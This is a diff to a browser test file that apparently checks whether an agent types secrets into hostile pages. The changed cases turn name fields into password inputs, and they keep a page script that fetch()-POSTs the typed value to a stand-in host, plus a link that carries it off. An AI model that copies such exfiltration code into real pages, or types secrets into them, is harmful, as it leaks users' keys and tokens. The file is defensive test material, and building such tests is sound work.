@@ -26,6 +26,7 @@ pytestmark = pytest.mark.browser
 SECRET = "hunter2hunter2"
 INSTRUCTION = "Look for Ada Lovelace"
 FIELD = "<label>Name <input id=who name=who></label>"
+CODE = FIELD.replace("<input", "<input type=password")
 POST = "fetch('@away@/take', {method: 'POST', body: who.value, mode: 'no-cors'})"
 NAME: dict[str, Any] = {"do": "type", "text": "Ada Lovelace"}
 CLICK: dict[str, Any] = {"do": "click"}
@@ -55,7 +56,7 @@ CASES = {
         "It brings text to localhost that may come from 127.0.0.1",
     ),
     "a secret by the page's script": Case(
-        f'{FIELD}<button type=button onclick="{POST}">Show more</button>',
+        f'{CODE}<button type=button onclick="{POST}">Show more</button>',
         (("textbox", "Name", {"do": "type", "text": "<secret:word>"}), ("button", "Show more", CLICK)),
         "A secret would go to localhost",
     ),
@@ -70,7 +71,7 @@ CASES = {
         "What was typed would go to localhost with the link",
     ),
     "a secret, by a link in a new tab": Case(
-        LINKED + LINK.replace("<a", "<a target=_blank"),
+        LINKED.replace("<input", "<input type=password") + LINK.replace("<a", "<a target=_blank"),
         (("textbox", "Name", {"do": "type", "text": "<secret:word>"}), ("link", "Details", CLICK)),
         "A key or token would go to localhost with the link",
     ),
